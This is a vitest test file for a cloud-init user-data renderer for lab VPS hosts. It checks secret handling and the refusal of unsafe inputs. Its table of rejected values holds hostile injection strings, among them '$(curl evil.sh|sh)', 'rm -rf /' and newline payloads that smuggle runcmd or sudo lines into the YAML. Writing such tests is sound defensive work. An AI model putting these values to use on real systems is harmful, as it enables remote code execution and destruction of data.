import ssh2 from "ssh2";
import { describe, expect, it } from "vitest";
import { parsePublicKey } from "@/lib/ssh-keys/parse-public-key";
import { CloudInitInputError, renderUserData, type UserDataInput } from "./render-user-data";
import { sha512Crypt } from "./sha512-crypt";
import { parseUserData } from "@lab-vps/sim/testkit";

// ssh2 now and then drops a leading zero byte of an ed25519 key (a malformed line): draw again.
function key(type: "ed25519" | "rsa", comment = "ada@laptop"): string {
  for (;;) {
    const line = ssh2.utils.generateKeyPairSync(type, type === "rsa" ? { bits: 2048, comment } : { comment }).public.trim();
    if (parsePublicKey(line).ok) return line;
  }
}

// Generated once: RSA key generation takes a while.
const ED25519 = key("ed25519");
const RSA = key("rsa");
const TOKEN = Buffer.from(JSON.stringify({ a: "account", t: "9a1c7d0e-tunnel", s: "c2VjcmV0LXNlY3JldC1zZWNyZXQtc2VjcmV0LXNlY3JldA==" })).toString("base64");
const input = (over: Partial<UserDataInput> = {}): UserDataInput => ({
  hostname: "clab-starter-x1y2",
  user: "lab",
  sshPublicKeys: [ED25519, RSA],
  tunnelToken: TOKEN,
  passwordHash: sha512Crypt("password-for-tests", "saltsaltsalt"),
  ...over,
});

describe("renderUserData", () => {
  it("fills the template file with each value as a YAML double-quoted string", () => {
    const keys = [ED25519, RSA];
    const out = renderUserData(input({ sshPublicKeys: keys }));
    expect(out.startsWith("#cloud-config\n")).toBe(true);
    expect(out).toContain('hostname: "clab-starter-x1y2"');
    expect(out).toContain('  - name: "lab"');
    expect(out).toContain(`    passwd: "${sha512Crypt("password-for-tests", "saltsaltsalt")}"`);
    expect(out).toContain(`  - [cloudflared, service, install, "${TOKEN}"]`);
    for (const k of keys) {
      const normalised = k.split(" ").slice(0, 2).join(" ");
      expect(out).toContain(`      - "${normalised}"`);
      expect(out).not.toContain("ada@laptop"); // comments are dropped: only type and key data travel
    }
    expect(out).not.toMatch(/\{\{\w+\}\}/);
  });

  it("EVE-NG: sets the web admin password through EVE-NG's REST API at first boot, from a root-only file removed after use", () => {
    const out = renderUserData(input({ eveAdminPassword: "Abcdefgh23456789Wxyz" }));
    const parsed = parseUserData(out);
    expect(parsed.writeFiles).toEqual([{ path: "/run/labvps/eve-admin.json", permissions: "0600", content: '{"password":"Abcdefgh23456789Wxyz"}' }]);
    const [login, put, rm] = parsed.runcmd.slice(-3);
    expect(login).toEqual(expect.arrayContaining(["curl", "POST", '{"username":"admin","password":"eve"}', "http://127.0.0.1/api/auth/login"]));
    expect(put).toEqual(expect.arrayContaining(["curl", "PUT", "--data-binary", "@/run/labvps/eve-admin.json", "http://127.0.0.1/api/users/admin"]));
    expect(rm).toEqual(["rm", "-f", "/run/labvps/eve-admin.json", "/run/labvps/eve.cookie"]);
    // Never on a command line (visible in ps), only in the file.
    expect(parsed.runcmd.flat().join(" ")).not.toContain("Abcdefgh23456789Wxyz");
  });

  it("containerlab: no EVE-NG block at all", () => {
    const parsed = parseUserData(renderUserData(input()));
    expect(parsed.writeFiles).toEqual([]);
    expect(parsed.runcmd.flat()).not.toContain("http://127.0.0.1/api/users/admin");
  });

  it("I9: carries only the password's crypt hash, never a clear password", () => {
    const out = renderUserData(input());
    expect(out).not.toContain("password-for-tests");
    expect(out).toMatch(/passwd: "\$6\$/);
  });

  it.each([
    ["hostname", { hostname: "lab; reboot" }],
    ["hostname", { hostname: "$(curl evil.sh|sh)" }],
    ["hostname", { hostname: "Lab-Upper" }],
    ["hostname", { hostname: 'x"\nruncmd: [reboot]' }],
    ["user", { user: "root\nsudo: ALL" }],
    ["user", { user: "lab user" }],
    ["tunnelToken", { tunnelToken: 'abc"; rm -rf / #' + "x".repeat(40) }],
    ["tunnelToken", { tunnelToken: "short" }],
    ["passwordHash", { passwordHash: "plain-text-password" }],
    ["eveAdminPassword", { eveAdminPassword: 'short"' }],
    ["eveAdminPassword", { eveAdminPassword: "has space in it 1234" }],
    ["sshPublicKeys", { sshPublicKeys: [] }],
    ["sshPublicKeys", { sshPublicKeys: ["ssh-ed25519 AAAA; rm -rf /"] }],
    ["sshPublicKeys", { sshPublicKeys: ["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI\nruncmd: [reboot]"] }],
  ] as const)("refuses an unsafe %s before rendering anything", (field, over) => {
    const attempt = () => renderUserData(input(over as Partial<UserDataInput>));
    expect(attempt).toThrow(CloudInitInputError);
    expect(attempt).toThrow(new RegExp(`cloud-init ${field} refused`));
  });

  it("I9: an error names the field, never the value (the token must stay out of logs)", () => {
    const secretish = "A".repeat(40) + "!secret!";
    try {
      renderUserData(input({ tunnelToken: secretish }));
      expect.unreachable();
    } catch (error) {
      expect((error as Error).message).not.toContain("secret");
    }
  });

  it("a key whose comment tries to inject is written without the comment", () => {
    const [type, blob] = ED25519.split(" ");
    const out = renderUserData(input({ sshPublicKeys: [`${type} ${blob} "] runcmd: [[reboot]] $(reboot)`] }));
    expect(out).toContain(`      - "${type} ${blob}"`);
    expect(out).not.toContain("reboot");
  });

  it("refuses a template that names an unknown value or leaves one out", () => {
    expect(() => renderUserData(input(), "hostname: {{hostname}}\n{{surprise}}")).toThrow(/unknown value \{\{surprise\}\}/);
    expect(() => renderUserData(input(), "hostname: {{hostname}}")).toThrow(/does not use/);
  });
});
